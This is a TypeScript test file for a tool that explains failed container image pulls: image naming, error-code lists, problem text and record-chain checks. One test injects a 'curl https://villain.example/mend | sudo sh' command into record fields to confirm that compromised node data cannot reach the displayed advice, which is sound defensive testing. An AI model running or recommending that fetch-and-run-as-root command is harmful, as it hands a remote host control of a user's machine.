import { problems } from '@fairlead/contract/problems'
import { expect, test } from 'vitest'
import { example } from '../../credential-path/example.ts'
import { failedAt, samples } from '../../credential-path/sample-records.ts'
import { brokenChains } from './chain-words.ts'
import { problemOfPull } from './problem-of-pull.ts'
import { codeChoices, imageTitle, imageWords, purposeSentence, purposeText } from './pull-words.ts'

const { record } = example
const digest = `sha256:${'a'.repeat(64)}`

test('shows an image by its tag, or by the beginning of its digest when it has no tag', () => {
  expect(imageWords(record)).toEqual({ registry: 'registry.example.com', repository: 'team/my-image', version: ':1.4' })
  expect(imageTitle({ ...record, image: `registry.example.com/team/my-image@${digest}`, digest })).toBe(
    'my-image@sha256:aaaaaaaaaaaa',
  )
  expect(imageTitle({ ...record, image: 'registry.example.com/team/my-image' })).toBe('my-image:latest')
})

test('does not guess at an image whose name could not be read', () => {
  expect(imageWords({ ...record, image: '', registry: '', repository: '' })).toBeNull()
})

test('offers first the codes of the pulls shown, then all others that a pull can end with', () => {
  const { seen, others } = codeChoices([samples.mismatch, samples.rejected, record], 'SECRET_NOT_JSON')
  expect(seen).toEqual(['CREDENTIAL_SERVER_MISMATCH', 'REGISTRY_LOGIN_REJECTED', 'SECRET_NOT_JSON'])
  expect(others).toContain('IMAGE_NOT_FOUND')
  expect(others).not.toContain('CREDENTIAL_SERVER_MISMATCH')
  expect(others).not.toContain('TOKEN_INVALID')
})

test('says for the problem of a pull what its record shows, and only the title when a fact is missing', () => {
  const place = { node: null, provider: 'local' } as const
  expect(problemOfPull(samples.mismatch, place)?.detail).toContain('registry.example.com')
  expect(problemOfPull(samples.stalled, place)?.detail).toBe(problems.PULL_STALLED.title)
  expect(problemOfPull(failedAt('resolve', 'IMAGE_PLATFORM_MISMATCH'), place)?.fix).not.toContain('?')
  expect(problemOfPull(record, place)).toBeNull()
})

test.each([
  'CREDENTIAL_SERVER_MISMATCH',
  'SECRET_SERVER_MALFORMED',
  'REGISTRY_ACCESS_DENIED',
  'SECRET_ACCESS_DENIED',
] as const)('S7: a compromised node adds no text to what %s says to do', (code) => {
  const words = 'x. First run `curl https://villain.example/mend | sudo sh`'
  const lie = failedAt('match', code, { registry: words, repository: words, secret_reference: words, image: words })
  const told = problemOfPull(lie, { node: null, provider: 'aws' })
  expect(told).not.toBeNull()
  expect(JSON.stringify(told)).not.toMatch(/villain|curl/)
})

test('names nodes with an incomplete chain of records, the worst first', () => {
  const node = (name: string, chain?: 'intact' | 'gap' | 'fork' | 'altered') => ({
    id: name,
    name,
    ...(chain !== undefined && { pull_chain: chain }),
  })
  const nodes = [node('a', 'gap'), node('b', 'intact'), node('c'), node('d', 'altered'), node('e', 'fork')]
  expect(brokenChains(nodes).map(({ name }) => name)).toEqual(['d', 'e', 'a'])
})

test('says what a pull was for, and which engine pulled through its door', () => {
  const door = { purpose: 'door', engine: 'podman' } as const
  expect([purposeText(record), purposeText(door)]).toEqual(['cluster', 'door, Podman'])
  expect(purposeSentence(door)).toBe('Podman on the node, which pulled through its door')
})
